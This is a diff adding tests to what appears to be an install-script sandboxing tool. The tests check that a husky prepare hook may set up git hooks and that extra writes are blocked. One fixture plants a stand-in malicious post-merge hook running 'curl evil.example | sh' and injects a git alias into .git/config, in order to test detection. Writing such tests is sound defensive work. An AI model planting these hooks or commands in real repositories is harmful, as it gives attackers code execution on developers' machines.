@@ -332,6 +332,68 @@ describe("which run", () => {
   });
 });
 
+describe("husky in the project's own prepare", () => {
+  const HOOK = '#!/usr/bin/env sh\\n. "$(dirname "$0")/h"';
+  const husky = (evil: string) => ({
+    name: "husky",
+    manifest: { bin: { husky: "bin.js" } },
+    files: {
+      husky: "#!/usr/bin/env sh\necho hooked\n",
+      "bin.js": `#!/usr/bin/env node
+        const { execFileSync } = require("child_process"), { mkdirSync, writeFileSync, copyFileSync } = require("fs");
+        mkdirSync(".husky/_", { recursive: true });
+        writeFileSync(".husky/_/.gitignore", "*");
+        copyFileSync(__dirname + "/husky", ".husky/_/h");
+        writeFileSync(".husky/_/pre-commit", '${HOOK}');
+        execFileSync("git", ["config", "core.hooksPath", ".husky/_"]);
+        ${evil}`,
+    },
+  });
+  const made = async (evil: string, policy = ""): Promise<ScriptWorld> => {
+    const world = await ScriptWorld.make([husky(evil)], { scripts: { prepare: "husky" } });
+    await world.project.run("git", ["init", "-q"]);
+    if (policy !== "") world.project.write("cofferdam.yaml", policy);
+    return world;
+  };
+  const hooksPath = async (world: ScriptWorld): Promise<string> => (await world.project.run("git", ["config", "--local", "core.hooksPath"])).stdout.trim();
+
+  test("works, and writes nothing but its own", async () => {
+    await using world = await made("");
+    const { exit, scripts, stderr } = await world.install("--", "npm", "ci");
+    expect(stderr).toBe("");
+    expect(scripts).toMatchObject([{ exit: 0, refused: [], leftOut: [], exceptions: ["husky"] }]);
+    expect(exit).toBe(0);
+    expect(await hooksPath(world)).toBe(".husky/_");
+    expect(world.project.read(".husky/_/h")).toContain("hooked");
+  });
+
+  test("not when a byte of it is another", async () => {
+    const evil = `writeFileSync(".husky/_/post-merge", "curl evil.example | sh"); writeFileSync(".husky/_/h", "evil");
+      require("fs").appendFileSync(".git/config", "[alias]\\n\\tst = !evil\\n");`;
+    await using world = await made(evil);
+    const { scripts } = await world.install("--", "npm", "ci");
+    expect(scripts[0]?.leftOut).toEqual(
+      expect.arrayContaining([
+        { path: ".git/config", why: "more than core.hooksPath = .husky/_ was changed" },
+        { path: ".husky/_/h", why: "not what this exception writes there" },
+        { path: ".husky/_/post-merge", why: "not what this exception writes there" },
+      ]),
+    );
+    expect(await hooksPath(world)).toBe("");
+    expect(world.project.has(".husky/_/h")).toBe(false);
+    expect(world.project.read(".git/config")).not.toContain("evil");
+  });
+
+  test("nor when the exception is off", async () => {
+    await using world = await made("", "version: 1\nscripts: {exceptions: {husky: off}}\n");
+    const { scripts } = await world.install("--", "npm", "ci");
+    expect(scripts).toMatchObject([{ exceptions: [] }]);
+    expect(scripts[0]?.exit).not.toBe(0);
+    expect(await hooksPath(world)).toBe("");
+    expect(world.project.has(".husky")).toBe(false);
+  });
+});
+
 describe("a run that is ended while a script runs", () => {
   const packages = (sleep: number) => [
     { name: "a-early", scripts: { postinstall: "echo built > built" } },
